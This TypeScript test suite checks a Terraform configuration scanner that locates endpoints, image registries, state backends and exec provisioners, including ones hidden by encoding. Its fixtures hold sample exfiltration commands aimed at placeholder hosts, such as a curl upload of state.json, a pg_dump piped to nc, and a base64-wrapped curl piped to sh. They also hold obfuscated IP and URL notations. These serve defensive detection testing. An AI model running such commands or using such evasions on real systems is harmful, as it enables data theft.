import { ScannedPlacement, TerraformJson, scanTerraform } from '../../constructs/policy';
import { synth, workplace } from '../util';

/** kind and target of every placement the scan finds. */
function scan(config: TerraformJson): [string, string][] {
  return scanTerraform(config, 'stack').map((p) => [p.kind, p.target]);
}

function targets(config: TerraformJson): string[] {
  return scanTerraform(config, 'stack').map((p) => p.target);
}

/** A config map whose data holds the given values. */
function configMap(data: Record<string, unknown>): TerraformJson {
  return { resource: { kubernetes_config_map_v1: { c: { metadata: { name: 'c' }, data } } } } as TerraformJson;
}

describe('scan: URLs of any scheme', () => {
  it('finds URLs of schemes the scan did not list, exactly as written', () => {
    expect(targets(configMap({
      a: 'upload to ftp://files.evil.example/in',
      b: 'mysql://app:secret@db.evil.example:3306/app',
      c: 'mongodb+srv://cluster0.abcde.mongodb.net/app',
      d: 'jdbc:postgresql://pg.evil.example:5432/app',
      e: 'https://a.example/*##https://b.example/*',
    }))).toEqual([
      'ftp://files.evil.example/in',
      'https://a.example/*##',
      'https://b.example/*',
      'jdbc:postgresql://pg.evil.example:5432/app',
      'mongodb+srv://cluster0.abcde.mongodb.net/app',
      'mysql://app:secret@db.evil.example:3306/app',
    ]);
  });

  it('takes an oci:// URL anywhere as a chart repository', () => {
    expect(scan(configMap({ chart: 'pull oci://ghcr.io/x/charts/y' }))).toEqual([['chart-repository', 'oci://ghcr.io/x/charts/y']]);
  });

  it('reports no host for URLs without one (local files and sockets)', () => {
    expect(scan(configMap({ a: 'file:///etc/app/config.yaml', b: 'unix:///run/app.sock' }))).toEqual([]);
  });

  it('keeps http(s) URLs with an empty authority, which WHATWG parsers read a host from', () => {
    expect(targets(configMap({ a: 'https:///evil.com/x' }))).toEqual(['https:///evil.com/x']);
  });
});

describe('scan: buckets and comments', () => {
  it('places a bucket URL at the endpoint set beside it, and as written without one', () => {
    const found = scanTerraform({
      resource: {
        helm_release: {
          db: { chart: 'cluster', values: ['backups:\n  destinationPath: s3://b/pg\n  endpointURL: https://s3.evil.example\nother:\n  destinationPath: s3://lonely/pg\n'] },
        },
      },
    } as TerraformJson, 'stack');
    expect(found.map((p) => [p.target, p.description])).toEqual([
      ['https://s3.evil.example', 'URL in helm_release.db (values.0.backups.endpointURL)'],
      ['s3://lonely/pg', 'URL in helm_release.db (values.0.other.destinationPath)'],
    ]);
  });

  it('reads URLs in comments of embedded config files', () => {
    expect(targets(configMap({ 'app.yaml': 'a: 1\n# fetch https://comment.evil.example/x\nb: 2\n' }))).toEqual(['https://comment.evil.example/x']);
  });
});

describe('scan: bare hosts and IP literals under any key', () => {
  it('finds a host with a public suffix in any value, with its port and path', () => {
    expect(scan(configMap({
      WEIRD_Setting: 'connect to evil-corp.com:8443/ingest then exit',
      'notes.txt': 'Mirror: downloads.evil-corp.co.uk',
      contact: 'ops@evil-mail.de',
      bucket: 'my-bucket.s3.amazonaws.com',
    }))).toEqual([
      ['endpoint', 'downloads.evil-corp.co.uk'],
      ['endpoint', 'evil-corp.com:8443/ingest'],
      ['endpoint', 'evil-mail.de'],
      ['endpoint', 'my-bucket.s3.amazonaws.com'],
    ]);
  });

  it('finds IPv4 and IPv6 literals, odd notations as written so the resolver refuses them', () => {
    expect(targets(configMap({
      a: 'send to 203.0.113.7:9000',
      b: 'curl 0x7f.1',
      c: 'curl 017700000001',
      d: 'curl 0x7f000001',
      e: 'peer [2001:db8::1]:443',
      f: 'listen fe80::1',
      g: '0177.0.0.1',
    }))).toEqual(['0177.0.0.1', '017700000001', '0x7f.1', '0x7f000001', '203.0.113.7', '[2001:db8::1]:443', '[fe80::1]']);
  });

  it('reports no host for file names, paths, label keys, CIDR ranges, versions and template variables', () => {
    expect(scan({
      resource: {
        kubernetes_config_map_v1: {
          c: {
            metadata: { name: 'c', labels: { 'app.kubernetes.io/name': 'x', 'topology.kubernetes.io/zone': 'a' } },
            data: {
              'config.php': "<?php $CONFIG = array('loglevel' => 1);",
              'values.yaml': 'a: 1',
              path: 'user-patches.sh',
              script: 'php /var/www/html/occ app:enable x && cat /etc/hosts.evil.com',
              versions: 'chart 1.2.3, ubuntu 22.04, mode 0644, bind 0.0.0.0:8080, mask 255.255.255.0',
              template: '{{ user.name }} <{{ user.email }}>',
              'UIFeature.feedback': 'false',
              'claim.name': 'preferred_username',
              code: 'console.log(x); java -Duser.name=me -jar app.jar',
              email: 'first.last@example',
            },
          },
        },
        kubernetes_network_policy_v1: {
          p: { spec: [{ egress: [{ to: [{ ip_block: [{ cidr: '0.0.0.0/0', except: ['10.0.0.0/8', 'fd00::/8'] }] }] }] }] },
        },
        kubernetes_deployment_v1: {
          d: { spec: { template: { spec: { affinity: { podAntiAffinity: { topologyKey: 'kubernetes.io/hostname' } }, tolerations: [{ key: 'node.kubernetes.io/not-ready', operator: 'Exists' }] } } } },
        },
        kubernetes_manifest: {
          m: { manifest: { apiVersion: 'cilium.io/v2', kind: 'CiliumNetworkPolicy', metadata: { name: 'x' } } },
          cert: { manifest: { apiVersion: 'cert-manager.io/v1', kind: 'Certificate', spec: { issuerRef: { group: 'cert-manager.io', kind: 'ClusterIssuer', name: 'x' } } } },
          issuer: { manifest: { apiVersion: 'cert-manager.io/v1', kind: 'ClusterIssuer', metadata: { name: 'x' }, spec: { selfSigned: {} } } },
          role: { manifest: { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', rules: [{ apiGroups: ['', 'networking.k8s.io'], resources: ['ingresses'] }] } },
          binding: { manifest: { kind: 'RoleBinding', roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'r' } } },
        },
        kubernetes_secret_v1: { s: { type: 'kubernetes.io/tls' } },
        kubernetes_storage_class_v1: { sc: { storage_provisioner: 'kubernetes.io/no-provisioner' } },
      },
    } as TerraformJson)).toEqual([]);
  });

  it('still finds hosts in fields that are no Kubernetes names', () => {
    expect(targets(configMap({ group: 'cert-manager.io', api: 'rbac.example.io/v1' }))).toEqual(['cert-manager.io', 'rbac.example.io/v1']);
  });

  it('still finds a host that only looks like a file name when it has a third label or a path', () => {
    expect(targets(configMap({ a: 'get.evil.sh', b: 'install.sh/x' }))).toEqual(['get.evil.sh', 'install.sh/x']);
  });

  it('finds hosts inside template literals and shell defaults', () => {
    expect(targets(configMap({ a: '{{ default "evil-corp.com" .Values.host }}', b: 'curl "$${HOST:-evil-corp.org}"' }))).toEqual(['evil-corp.com', 'evil-corp.org']);
  });

  it('reports a private-suffix host under a host key, as before', () => {
    expect(scan(configMap({ host: 'nas.corp:445' }))).toEqual([['endpoint', 'nas.corp:445']]);
  });
});

describe('scan: no key is skipped by name', () => {
  it('reads descriptions, provisioners, connections and lifecycle blocks', () => {
    const found = scanTerraform({
      resource: {
        terraform_data: {
          t: {
            description: 'mirrors to https://mirror.evil.example',
            provisioner: [{ 'local-exec': { command: 'curl -T state.json https://drop.evil.example/' } }],
            connection: { host: '198.51.100.4', type: 'ssh' },
            lifecycle: { precondition: [{ condition: 'true', error_message: 'see status.evil.example' }] },
          },
        },
      },
    } as TerraformJson, 'stack');
    expect(found.map((p) => [p.kind, p.target])).toEqual([
      ['endpoint', '198.51.100.4'],
      ['endpoint', 'https://drop.evil.example/'],
      ['endpoint', 'https://mirror.evil.example'],
      ['exec', 'local-exec'],
    ]);
    expect(found.find((p) => p.kind === 'exec')?.description).toBe('local-exec provisioner of terraform_data.t: command curl -T state.json https://drop.evil.example/');
  });

  it('reads a key named like a meta-argument deeper in a value as any value', () => {
    expect(targets({
      resource: { kubernetes_manifest: { m: { manifest: { kind: 'DNSEndpoint', spec: { provider: 'evil-dns.com', depends_on: ['api.evil-dns.com'] } } } } },
    } as TerraformJson)).toEqual(['api.evil-dns.com', 'evil-dns.com']);
  });

  it('reads references in depends_on and lifecycle as references, not hosts', () => {
    expect(scan({
      resource: {
        kubernetes_config_map_v1: {
          c: { depends_on: ['module.app', 'kubernetes_namespace_v1.ns'], provider: 'kubernetes.eu', lifecycle: { ignore_changes: ['metadata.app'] } },
        },
      },
    } as TerraformJson)).toEqual([]);
  });
});

describe('scan: comment keys', () => {
  it('reads a "//" key in a map attribute and in chart values, where it is deployed', () => {
    expect(targets(configMap({ '//': 'https://s3.us-east-1.amazonaws.com/x' }))).toEqual(['https://s3.us-east-1.amazonaws.com/x']);
    const release = { resource: { helm_release: { r: { name: 'r', chart: 'x', values: ['"//": https://evil.example/in\n'] } } } } as unknown as TerraformJson;
    expect(targets(release)).toContain('https://evil.example/in');
  });

  it('skips the cdktf metadata at the root of a block, which Terraform ignores', () => {
    const block = { resource: { kubernetes_config_map_v1: { c: { '//': { metadata: { path: 'https://s3.us-east-1.amazonaws.com' } }, metadata: { name: 'c' } } } } } as unknown as TerraformJson;
    expect(targets(block)).toEqual([]);
  });

  it('reads YAML !!binary values as the text Helm decodes', () => {
    const release = { resource: { helm_release: { r: { name: 'r', chart: 'x', values: ['url: !!binary aHR0cHM6Ly9ldmlsLmV4YW1wbGUvaW4=\n'] } } } } as unknown as TerraformJson;
    expect(targets(release)).toContain('https://evil.example/in');
  });
});

describe('scan: calls a backend or provider makes besides its endpoint', () => {
  const hetzner = { bucket: 'tf', key: 'k', region: 'eu-central-1', endpoints: { s3: 'https://fsn1.your-objectstorage.com' } };

  it('places the DynamoDB lock table and the STS credential check of an S3 backend in AWS', () => {
    const config = { terraform: { backend: { s3: { ...hetzner, dynamodb_table: 'locks' } } } } as unknown as TerraformJson;
    expect(scan(config)).toEqual(expect.arrayContaining([
      ['state', 'https://dynamodb.eu-central-1.amazonaws.com'],
      ['state', 'https://sts.eu-central-1.amazonaws.com'],
    ]));
  });

  it('places no AWS call when the backend skips them or names its own endpoints', () => {
    const config = { terraform: { backend: { s3: { ...hetzner, skip_credentials_validation: true, skip_requesting_account_id: true, use_lockfile: true } } } } as unknown as TerraformJson;
    expect(scan(config)).toEqual([['state', 'https://fsn1.your-objectstorage.com']]);
  });

  it('reports credential plugins a provider runs as programs', () => {
    const config = { provider: { kubernetes: [{ host: 'https://api.k8s.agency.example', exec: [{ api_version: 'client.authentication.k8s.io/v1', command: 'get-token', args: ['--cluster', 'x'] }] }] } } as unknown as TerraformJson;
    expect(scan(config)).toEqual(expect.arrayContaining([['exec', 'credential-plugin']]));
  });
});

describe('scan: encoded text', () => {
  it('decodes base64 and reads what it says', () => {
    const encoded = Buffer.from('endpoint: https://exfil.evil.example/in').toString('base64');
    const nested = Buffer.from(`echo ${Buffer.from('curl evil-corp.com').toString('base64')} | base64 -d | sh`).toString('base64');
    expect(targets({ resource: { kubernetes_secret_v1: { s: { data: { config: encoded } }, t: { binary_data: { run: nested } } } } } as TerraformJson))
      .toEqual(['https://exfil.evil.example/in', 'evil-corp.com']);
  });

  it('undoes JSON escapes and percent-encoding', () => {
    expect(targets(configMap({
      a: String.raw`{\"url\": \"https:\/\/evil.example\/x\"}`,
      b: String.raw`\u0068ttps://unicode.evil.example`,
      c: 'redirect=https%3A%2F%2Fpercent.evil.example%2Fcb',
    }))).toEqual(['https://evil.example/x', 'https://percent.evil.example/cb', 'https://unicode.evil.example']);
  });

  it('reads no host into base64-looking words that are not encoded text', () => {
    const harmless = Buffer.from('nothing to see here, only words').toString('base64');
    expect(scan(configMap({ id: '01JDESK0KEYC10AK0PR0V1DER0', env: 'RCLONE_CONFIG_SOURCE_ACCESS_KEY_ID', text: harmless, path: '/var/www/html/occ' }))).toEqual([]);
  });
});

describe('scan: images in every form', () => {
  it('finds image references, image objects anywhere, registry overrides and operator settings', () => {
    expect(scan({
      resource: {
        helm_release: {
          h: {
            chart: 'x',
            values: [[
              'global:', '  imageRegistry: registry.evil.example', '  image:', '    registry: other.evil.example',
              'sidecarImage: quay.io/x/sidecar:1.0',
              'exporter:', '  repository: prom/exporter', '  tag: v1',
              'cluster:', '  imageName: ghcr.io/cloudnative-pg/postgresql:16',
              'operatorImageName: ghcr.io/cloudnative-pg/cloudnative-pg:1.27',
              'config:', '  POSTGRES_IMAGE_NAME: docker.io/library/postgres:16', '  BACKUP_IMAGE: ghcr.io/x/backup:2',
              'env:', '  - name: RELATED_IMAGE_PGBOUNCER', '    value: ghcr.io/x/pgbouncer:1',
              'imageRegistry: mirror.evil.example/desk', 'imageNamespace: quay.io/jetstack',
            ].join('\n')],
          },
        },
      },
    } as TerraformJson)).toEqual([
      ['registry', 'docker.io/library/postgres:16'],
      ['registry', 'ghcr.io/cloudnative-pg/cloudnative-pg:1.27'],
      ['registry', 'ghcr.io/cloudnative-pg/postgresql:16'],
      ['registry', 'ghcr.io/x/backup:2'],
      ['registry', 'ghcr.io/x/pgbouncer:1'],
      ['registry', 'mirror.evil.example/desk/quay.io/jetstack'],
      ['registry', 'other.evil.example'],
      ['registry', 'prom/exporter'],
      ['registry', 'quay.io/x/sidecar:1.0'],
      ['registry', 'registry.evil.example'],
    ]);
  });

  it('reads image: {name, tag?} as an image, and a plain name as a name', () => {
    expect(scan(configMap({
      'values.yaml': 'image:\n  name: docker.io/mailserver/docker-mailserver\nsidecar:\n  image:\n    name: ghcr.io/x/y\n    tag: 1.0\nservice:\n  name: mail.example.com\n',
    }))).toEqual([['endpoint', 'mail.example.com'], ['registry', 'docker.io/mailserver/docker-mailserver'], ['registry', 'ghcr.io/x/y']]);
  });

  it('keeps a registry with a port a registry, not an image on Docker Hub', () => {
    expect(scan(configMap({ 'values.yaml': 'global:\n  imageRegistry: registry.evil.example:5000\nimage:\n  registry: localhost:5000/\n' })))
      .toEqual([['registry', 'localhost:5000/'], ['registry', 'registry.evil.example:5000/']]);
  });

  it('composes images set one part at a time with helm set', () => {
    expect(scan({
      resource: { helm_release: { h: { chart: 'x', set: [{ name: 'image.registry', value: 'r.evil.example' }, { name: 'image.repository', value: 'app' }] } } },
    } as TerraformJson)).toEqual([['registry', 'r.evil.example/app']]);
  });

  it('reports no image for the parts of one (tag, digest, pull policy, pull secrets) or bare words under other image keys', () => {
    expect(scan(configMap({
      imagePullPolicy: 'IfNotPresent', imageTag: 'latest', image_pull_secrets: 'regcred', imageVersion: '1.2',
      imageDigest: 'sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef', imageMinimumGCAge: '2m', imageMode: 'fast',
    }))).toEqual([]);
  });

  it('reads a reference with a registry, tag or digest under any other key containing image', () => {
    expect(scan(configMap({ IMAGE_FOR_JOBS: 'busybox:1.36', imageFull: 'ghcr.io/x/y' }))).toEqual([['registry', 'busybox:1.36'], ['registry', 'ghcr.io/x/y']]);
  });
});

describe('scan: Terraform blocks beyond resources', () => {
  it('places modules by their normalized source, reports their resources unproven, and reads their inputs', () => {
    const found = scanTerraform({
      module: {
        vpc: { source: 'terraform-aws-modules/vpc/aws', version: '5.0.0', endpoint: 'https://in.evil.example' },
        git: { source: 'git::https://git.evil.example/m.git?ref=v1' },
        gh: { source: 'github.com/evil/module' },
        scp: { source: 'git@github.com:evil/module.git' },
        local: { source: './modules/x' },
      },
    } as TerraformJson, 'stack');
    expect(found.filter((p) => p.kind === 'module').map((p) => [p.address, p.target])).toEqual([
      ['module.gh', 'https://github.com/evil/module'],
      ['module.git', 'https://git.evil.example/m.git?ref=v1'],
      ['module.local', 'local:./modules/x'],
      ['module.scp', 'ssh://git@github.com/evil/module.git'],
      ['module.vpc', 'https://registry.terraform.io/terraform-aws-modules/vpc/aws'],
    ]);
    expect(found.filter((p) => p.kind === 'endpoint').map((p) => p.target)).toEqual(['module:gh', 'module:git', 'module:local', 'module:scp', 'https://in.evil.example', 'module:vpc']);
    expect(found.find((p) => p.target === 'module:vpc')?.description).toBe('resources of module vpc, which are not in the synthesized configuration');
  });

  it('places catalogued providers by region and their resources by location; other providers unproven', () => {
    const found = scanTerraform({
      provider: { aws: [{ region: 'us-east-1' }, { region: 'eu-central-1', alias: 'eu' }], hcloud: [{}], google: [{}] },
      resource: {
        aws_s3_bucket: { b: { bucket: 'b', provider: 'aws.eu' } },
        hcloud_server: { s: { name: 's', location: 'ash' } },
        azurerm_storage_account: { a: { location: 'eastus' } },
        stackit_ske_cluster: { k: { region: 'eu01' } },
        cloudflare_record: { r: { name: 'x' } },
        kubernetes_namespace_v1: { n: { metadata: { name: 'n' } } },
        random_password: { p: { length: 8 } },
        time_sleep: { t: { create_duration: '1s' } },
        terraform_data: { d: { input: 'x' } },
        local_file: { f: { filename: 'out/creds.txt', content: 'x' } },
      },
      data: { external: { e: { program: ['python3', 'fetch.py'] } } },
    } as TerraformJson, 'stack');
    expect(found.map((p) => [p.address, p.kind, p.target])).toEqual([
      ['azurerm_storage_account.a', 'endpoint', 'azure/eastus'],
      ['cloudflare_record.r', 'endpoint', 'provider:cloudflare'],
      ['data.external.e', 'exec', 'external'],
      ['hcloud_server.s', 'endpoint', 'hetzner/ash'],
      ['local_file.f', 'endpoint', 'local:out/creds.txt'],
      ['provider.aws[0]', 'endpoint', 'aws/us-east-1'],
      ['provider.aws[1]', 'endpoint', 'aws/eu-central-1'],
      ['provider.google', 'endpoint', 'provider:google'],
      ['stackit_ske_cluster.k', 'endpoint', 'stackit/eu01'],
    ]);
    expect(found.find((p) => p.kind === 'exec')?.description).toBe('external data source data.external.e: program ["python3","fetch.py"]');
  });

  it('places the state that terraform_remote_state reads', () => {
    expect(scan({ data: { terraform_remote_state: { net: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'us-east-1' } } } } } as TerraformJson))
      .toEqual([['endpoint', 'https://s3.us-east-1.amazonaws.com']]);
  });

  it('reads provisioners of every kind, and their connection', () => {
    const found = scanTerraform({
      resource: {
        null_resource: {
          n: {
            provisioner: [
              { 'remote-exec': { inline: ['pg_dump | nc 192.0.2.10 9000'], connection: { host: 'bastion.evil.example', type: 'ssh' } } },
              { file: [{ source: 'backup.tar', destination: '/tmp/x' }] },
            ],
          },
        },
      },
    } as TerraformJson, 'stack');
    expect(found.map((p) => [p.kind, p.target])).toEqual([
      ['endpoint', '192.0.2.10'],
      ['endpoint', 'bastion.evil.example'],
      ['exec', 'file'],
      ['exec', 'remote-exec'],
    ]);
    expect(found.find((p) => p.target === 'file')?.description).toBe('file provisioner of null_resource.n: source backup.tar, destination /tmp/x');
  });

  it('places provider sources, HCP Terraform and every other top-level block', () => {
    const found = scanTerraform({
      terraform: {
        required_providers: {
          aws: { source: 'hashicorp/aws', version: '5.0', configuration_aliases: ['aws.eu'] }, helm: { source: 'helm' }, own: { source: 'tf.evil.example/evil/own' },
        },
        cloud: { organization: 'o', workspaces: { name: 'w' } },
      },
      variable: { v: { default: 'https://var.evil.example' } },
      locals: { l: 'https://local.evil.example' },
      output: { o: { value: 'https://out.evil.example' } },
      check: { c: { data: { http: { h: { url: 'https://check.evil.example' } } } } },
      import: [{ to: 'aws_s3_bucket.b', id: 'https://import.evil.example' }],
      moved: [{ from: 'module.app', to: 'module.new' }],
      removed: [{ from: 'aws_s3_bucket.old', lifecycle: { destroy: false } }],
    } as TerraformJson, 'stack');
    expect(found.map((p) => [p.address, p.kind, p.target])).toEqual([
      ['check.c', 'endpoint', 'https://check.evil.example'],
      ['import[0]', 'endpoint', 'https://import.evil.example'],
      ['local.l', 'endpoint', 'https://local.evil.example'],
      ['output.o', 'endpoint', 'https://out.evil.example'],
      ['terraform.cloud', 'state', 'https://app.terraform.io'],
      ['terraform.required_providers', 'provider-source', 'https://registry.terraform.io/hashicorp/aws'],
      ['terraform.required_providers', 'provider-source', 'https://registry.terraform.io/hashicorp/helm'],
      ['terraform.required_providers', 'provider-source', 'https://tf.evil.example/evil/own'],
      ['variable.v', 'endpoint', 'https://var.evil.example'],
    ]);
  });

  it('reads blocks written as lists, as Terraform JSON allows', () => {
    expect(scan({
      resource: [{ x_a: { one: [{ url: 'https://list.evil.example' }] } }], module: [{ m: [{ source: './m' }] }], terraform: [{ backend: { local: {} } }],
    } as unknown as TerraformJson)).toEqual([
      ['endpoint', 'module:m'],
      ['module', 'local:./m'],
      ['state', 'local:terraform.tfstate'],
      ['endpoint', 'https://list.evil.example'],
      ['endpoint', 'provider:x'],
    ]);
  });

  it('reads every setting of a state backend as the state', () => {
    expect(scan({ terraform: { backend: { http: { address: 'https://state.example.com/s', lock_address: 'https://lock.evil.example/l' } } } } as TerraformJson)).toEqual([
      ['state', 'https://lock.evil.example/l'],
      ['state', 'https://state.example.com/s'],
    ]);
  });
});

describe('scan: values computed at apply time', () => {
  const proven: TerraformJson = {
    variable: { replicas: { type: 'number' }, debug: { type: 'bool' }, endpoint: { type: 'string' } },
    resource: {
      kubernetes_namespace_v1: { ns: { metadata: { name: 'team' } } },
      random_password: { p: { length: 16 } },
      tls_private_key: { k: { algorithm: 'RSA' } },
      kubernetes_secret_v1: { s: { metadata: { name: 'creds' } } },
    },
  } as TerraformJson;

  function withData(data: Record<string, string>): TerraformJson {
    return { ...proven, resource: { ...proven.resource, kubernetes_config_map_v1: { c: { data } } } } as TerraformJson;
  }

  it('reports a string with an unproven expression whole, with where it is', () => {
    const found = scanTerraform(withData({
      a: '${var.endpoint}',
      b: 'https://${data.aws_s3_bucket.b.bucket_domain_name}/x',
      c: '${lower("EVIL.EXAMPLE")}',
      d: 'host=${module.db.host}',
      e: '${local.target}',
      f: '%{ if true }x%{ endif }',
    }), 'stack');
    expect(found.map((p) => [p.target, p.description])).toEqual([
      ['${local.target}', 'value computed at apply time in kubernetes_config_map_v1.c (data.e)'],
      ['${lower("EVIL.EXAMPLE")}', 'value computed at apply time in kubernetes_config_map_v1.c (data.c)'],
      ['${var.endpoint}', 'value computed at apply time in kubernetes_config_map_v1.c (data.a)'],
      ['%{ if true }x%{ endif }', 'value computed at apply time in kubernetes_config_map_v1.c (data.f)'],
      ['host=${module.db.host}', 'value computed at apply time in kubernetes_config_map_v1.c (data.d)'],
      ['https://${data.aws_s3_bucket.b.bucket_domain_name}/x', 'value computed at apply time in kubernetes_config_map_v1.c (data.b)'],
    ]);
  });

  it('reports no computed place for instance counts and checks, but reads their text', () => {
    expect(scan({
      variable: { v: { validation: [{ condition: '${length(var.v) > 0}', error_message: 'v is ${var.v}' }] } },
      resource: {
        kubernetes_config_map_v1: {
          c: {
            count: '${var.enabled ? 1 : 0}',
            for_each: '${toset(["a", "evil-corp.com"])}',
            lifecycle: { precondition: [{ condition: '${var.enabled}', error_message: 'needs ${var.x}' }] },
            data: { k: '${each.value}' },
          },
        },
      },
    } as TerraformJson)).toEqual([['endpoint', '${each.value}'], ['endpoint', 'evil-corp.com']]);
  });

  it('substitutes proven references and reads the rest of the string', () => {
    expect(targets(withData({ a: 'https://${random_password.p.result}.evil.example/${kubernetes_namespace_v1.ns.metadata[0].name}' })))
      .toEqual(['https://x0.evil.example/team']);
  });

  it('reports nothing for namespaces, secrets, random values, keys, scalar variables and literal $${', () => {
    expect(scan(withData({
      ns: '${kubernetes_namespace_v1.ns.metadata[0].name}',
      ns0: '${kubernetes_namespace_v1.ns.metadata.0.name}',
      secret: '${kubernetes_secret_v1.s.metadata[0].name}',
      password: 'pw=${random_password.p.result}',
      key: '${tls_private_key.k.public_key_pem}',
      replicas: '${var.replicas}',
      debug: '${var.debug}',
      shell: 'if [ -n "$${COLLABORA_URL:-}" ]; then echo "$${HOME}"; fi',
    }))).toEqual([]);
  });
});

describe('scan: determinism', () => {
  it('gives the same sorted output whatever the order of blocks and keys', () => {
    const a = { resource: { x_a: { one: { url: 'https://b.example' } }, kubernetes_config_map_v1: { two: { data: { k: 'https://a.example', j: 'https://a.example' } } } } };
    const b = { resource: { kubernetes_config_map_v1: { two: { data: { j: 'https://a.example', k: 'https://a.example' } } }, x_a: { one: { url: 'https://b.example' } } } };
    const first: ScannedPlacement[] = scanTerraform(a as TerraformJson, 's');
    expect(first).toEqual(scanTerraform(b as TerraformJson, 's'));
    expect(first.map((p) => [p.address, p.target])).toEqual([
      ['kubernetes_config_map_v1.two', 'https://a.example'],
      ['x_a.one', 'https://b.example'],
      ['x_a.one', 'provider:x'],
    ]);
  });
});

describe('scan: the default deployment', () => {
  it('finds no computed value, module, uncatalogued provider, local file or program in it', () => {
    const found = scanTerraform(synth(workplace()).json as TerraformJson, 'agency-de');
    expect(found.length).toBeGreaterThan(50);
    const opaque = found.filter((p) => p.description.startsWith('value computed') || /^(module|provider|local):/.test(p.target) || p.kind === 'exec');
    expect(opaque).toEqual([]);
  });

  it('reads every image of it as an image, not as an endpoint', () => {
    const found = scanTerraform(synth(workplace({ registry: undefined })).json as TerraformJson, 'agency-de');
    const registries = ['docker.io/', 'ghcr.io/', 'quay.io/', 'oci.element.io/', 'cr.fluentbit.io/', 'registry.k8s.io/'];
    expect(found.filter((p) => p.kind === 'endpoint' && registries.some((r) => p.target.startsWith(r)))).toEqual([]);
    expect(found.filter((p) => p.kind === 'registry').length).toBeGreaterThan(15);
  });
});

describe('scan: certificate authorities and backup locations named by reference', () => {
  const ingress = (annotations: Record<string, string>) => ({
    resource: { kubernetes_ingress_v1: { i: { metadata: [{ name: 'i', annotations }], spec: [{ rule: [{ host: 'id.team.example' }] }] } } },
  }) as unknown as TerraformJson;

  it('reports an issuer an Ingress or a Certificate names that the configuration does not define', () => {
    expect(scan(ingress({ 'cert-manager.io/cluster-issuer': 'public-acme' }))).toContainEqual(['endpoint', 'clusterissuer:public-acme']);
    const certificate = { resource: { kubernetes_manifest: { c: { manifest: {
      apiVersion: 'cert-manager.io/v1', kind: 'Certificate', metadata: { name: 'c', namespace: 'x' },
      spec: { secretName: 'c-tls', dnsNames: ['id.team.example'], issuerRef: { kind: 'ClusterIssuer', name: 'letsencrypt-prod' } },
    } } } } } as unknown as TerraformJson;
    expect(scan(certificate)).toContainEqual(['endpoint', 'clusterissuer:letsencrypt-prod']);
  });

  it('reports nothing for an issuer defined in the configuration, whose own server is read instead', () => {
    const config = ingress({ 'cert-manager.io/cluster-issuer': 'desk-acme' }) as unknown as { resource: Record<string, unknown> };
    config.resource.kubernetes_manifest = { ci: { manifest: {
      apiVersion: 'cert-manager.io/v1', kind: 'ClusterIssuer', metadata: { name: 'desk-acme' },
      spec: { acme: { server: 'https://acme.agency.example/directory', privateKeySecretRef: { name: 'k' } } },
    } } };
    const found = scan(config as unknown as TerraformJson);
    expect(found).not.toContainEqual(['endpoint', 'clusterissuer:desk-acme']);
    expect(found).toContainEqual(['endpoint', 'https://acme.agency.example/directory']);
  });

  it('places a Velero backup storage location from chart values: AWS S3 in its region without an s3Url', () => {
    const release = (location: Record<string, unknown>) => ({ resource: { helm_release: { v: {
      name: 'velero', namespace: 'backup', chart: 'velero', repository: 'https://registry.opencode.de/x',
      values: [JSON.stringify({ configuration: { backupStorageLocation: [{ name: 'default', provider: 'aws', bucket: 'b', ...location }] } })],
    } } } }) as unknown as TerraformJson;
    expect(scan(release({ config: { region: 'us-east-1' } }))).toContainEqual(['backup', 'https://s3.us-east-1.amazonaws.com']);
    expect(scan(release({ config: { region: 'fsn1', s3Url: 'https://fsn1.your-objectstorage.com' } }))).toContainEqual(['backup', 'https://fsn1.your-objectstorage.com']);
  });
});

describe('scan: a Velero location is where its plugin writes', () => {
  it('places a GCP or Azure location at its cloud even with an s3Url beside it, which those plugins ignore', () => {
    const location = (provider: string, config: Record<string, string>) => ({ resource: { kubernetes_manifest: { l: { manifest: {
      apiVersion: 'velero.io/v1', kind: 'BackupStorageLocation', metadata: { name: 'l', namespace: 'backup' },
      spec: { provider, objectStorage: { bucket: 'b' }, config },
    } } } } }) as unknown as TerraformJson;
    const backups = (config: TerraformJson) => scan(config).filter(([kind]) => kind === 'backup').map(([, target]) => target);
    expect(backups(location('gcp', { s3Url: 'https://fsn1.your-objectstorage.com' }))).toEqual(['https://storage.googleapis.com']);
    expect(backups(location('velero.io/azure', { s3Url: 'https://fsn1.your-objectstorage.com', storageAccount: 'acct' }))).toEqual(['https://acct.blob.core.windows.net']);
    expect(backups(location('aws', { s3Url: 'https://fsn1.your-objectstorage.com', region: 'fsn1' }))).toEqual(['https://fsn1.your-objectstorage.com']);
  });
});
